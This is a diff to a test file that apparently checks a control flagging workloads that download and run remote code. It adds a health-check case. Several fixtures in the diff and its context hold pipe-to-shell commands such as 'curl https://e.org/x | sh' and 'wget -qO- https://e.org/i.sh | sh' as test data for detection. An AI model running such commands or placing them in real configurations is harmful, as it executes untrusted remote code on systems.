@@ -27,6 +27,15 @@ describeControl(workloadNothingFetchedRun, fetching, {
     'what is only declared': {
       facts: { ...declared, command: ['sh', '-c', 'curl https://e.org/x | sh'] },
     },
+    'a health check': {
+      facts: {
+        healthCheck: {
+          state: 'set',
+          test: ['CMD-SHELL', 'wget -qO- https://e.org/i.sh | sh'],
+          intervalSeconds: null,
+        },
+      },
+    },
     'a running one': { facts: { command: ['sh', '-c', 'curl https://e.org/x | sh'] } },
     'a hook': declaredWith(hookOf(), hookOf({ command: ['sh', '-c', 'wget -qO- e.org | sh'] })),
     'a hook of one text': declaredWith(hookOf({ command: ['curl https://e.org/x | sh'] })),
